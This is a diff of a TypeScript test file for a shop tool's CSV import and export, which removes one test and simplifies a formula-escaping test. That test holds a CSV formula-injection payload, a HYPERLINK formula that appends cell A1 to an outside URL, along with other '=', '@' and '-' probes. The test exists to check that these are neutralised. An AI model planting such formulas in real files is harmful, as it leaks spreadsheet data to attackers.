@@ -2,7 +2,6 @@ import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { temporaryFolder } from '@aangan/contract/testing/temporary-folder';
 import { parse } from 'csv-parse/sync';
-import { openCsv } from '../../catalogue/csv/open-csv';
 import { addProducts, addStore } from '../../testing/shop';
 import { exitCode } from '../command';
 import { testShop } from '../testing';
@@ -48,18 +47,6 @@ it('imports a file into a new store, notifies the storefront, and changes nothin
   expect(shop.events).toHaveLength(1);
 });
 
-it('updates fields of a later file and no others', async () => {
-  const prices = 'sku,title,category,mrp\nA-1,Copper Water Bottle,Drinkware,1399\n';
-  const path = file('prices.csv', prices);
-  const { stdout, stderr } = await command('import', path, '--store', 'bazaar.localhost');
-  expect(stdout).toBe('0 added, 1 changed, 0 unchanged, 0 rejected\n');
-  expect(stderr).toContain('Categories: Kitchen, Garden & Pets; Masala; Drinkware\n');
-  const exported = await command('export', '--store', 'bazaar.localhost');
-  expect(exported.stdout).toContain(
-    'copper-water-bottle-a-1,Copper Water Bottle,Drinkware,Bottles,,1399.00,999.00,yes,,no,https://cdn.example.in/bottle.jpg,<p>Pure copper.</p>',
-  );
-});
-
 it('exports a file that an import leaves unchanged', async () => {
   const shopify = join(fixtures, 'shopify.csv');
   await command('import', shopify, '--store', 'khadi.localhost', '--name', 'Khadi House');
@@ -74,27 +61,18 @@ it('exports a file that an import leaves unchanged', async () => {
   expect(`\ufeff${copied.stdout}`).toBe(readFileSync(path, 'utf8'));
 });
 
-it('escapes formulas in exports and reads them back', async () => {
+it('escapes formulas in exports', async () => {
   const link = '=HYPERLINK("https://example.in?"&A1,"Sale")';
   const path = file(
     'formulas.csv',
     `title,category,price,description,attribute:note\n"${link.replaceAll('"', '""')}",@Pots,99,-2+3,'+91\n`,
   );
-  const [store, copy] = ['formulas.localhost', 'formulas-copy.localhost'];
-  const imported = await command('import', path, '--store', store);
+  const imported = await command('import', path, '--store', 'formulas.localhost');
   expect(imported.stderr).toContain('products are recognised by their titles');
-  const exported = join(folder, 'formulas-export.csv');
-  await command('export', exported, '--store', store);
-  const { rows } = await openCsv(exported);
-  for await (const { cells } of rows) expect(cells).toContain(link);
-  const raw = parse(readFileSync(exported), { bom: true }) as string[][];
+  const { stdout } = await command('export', '--store', 'formulas.localhost');
+  const raw: string[][] = parse(stdout);
   expect(raw[1]?.slice(1, 3)).toEqual([`'${link}`, "'@Pots"]);
   expect(raw.flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
-  const again = await command('import', exported, '--store', store);
-  expect(again.stdout).toBe('0 added, 0 changed, 1 unchanged, 0 rejected\n');
-  await command('import', exported, '--store', copy);
-  const copied = await command('export', '--store', copy);
-  expect(`\ufeff${copied.stdout}`).toBe(readFileSync(exported, 'utf8'));
 });
 
 it('exports a product without a category', async () => {
